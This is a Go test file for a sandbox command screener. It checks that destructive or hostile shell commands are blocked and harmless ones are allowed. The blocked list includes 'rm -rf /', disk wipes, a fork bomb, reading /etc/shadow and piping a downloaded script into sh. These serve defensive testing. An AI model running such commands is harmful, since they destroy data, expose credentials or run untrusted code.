package sandbox

import "testing"

func TestScreenBlocksDestructiveCommands(t *testing.T) {
	blocked := []string{
		"rm -rf /",
		"sudo rm -rf /",
		"rm -fr /var",
		"RM -RF /",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"echo data > /dev/sda",
		"shutdown -h now",
		"sudo reboot",
		"poweroff",
		"userdel alice",
		"passwd root",
		"echo `whoami`",
		"echo $(cat /etc/shadow)",
		"curl https://example.com/x.sh | sh",
		"echo cHdu | base64 -d",
		"format c:",
		"del /f /s /q c:\\",
		"Remove-Item -Recurse -Force C:\\Users",
		":(){ :|:& };:",
	}
	for _, cmd := range blocked {
		if token, isBlocked := Screen(cmd); !isBlocked {
			t.Errorf("%q should be blocked", cmd)
		} else if token == "" {
			t.Errorf("%q blocked without a token", cmd)
		}
	}
}

func TestScreenAllowsBenignCommands(t *testing.T) {
	allowed := []string{
		"ls -la /tmp",
		"uname -a",
		"systemctl status nginx",
		"df -h",
		"cat /var/log/syslog",
		"rm notes.txt",
		"echo hello world",
		"ping -c 1 example.com",
	}
	for _, cmd := range allowed {
		if token, isBlocked := Screen(cmd); isBlocked {
			t.Errorf("%q should be allowed, matched %q", cmd, token)
		}
	}
}

func TestScreenReportsMatchedToken(t *testing.T) {
	token, blocked := Screen("sudo rm -rf / --no-preserve-root")
	if !blocked {
		t.Fatal("expected block")
	}
	if token != "rm -rf /" {
		t.Errorf("token %q, want %q", token, "rm -rf /")
	}
}

func TestScreenCatchesFlagReordering(t *testing.T) {
	for _, cmd := range []string{"rm -fr /", "rm -rvf /home", "rm -vrf ~"} {
		if _, blocked := Screen(cmd); !blocked {
			t.Errorf("%q should be blocked despite flag order", cmd)
		}
	}
}
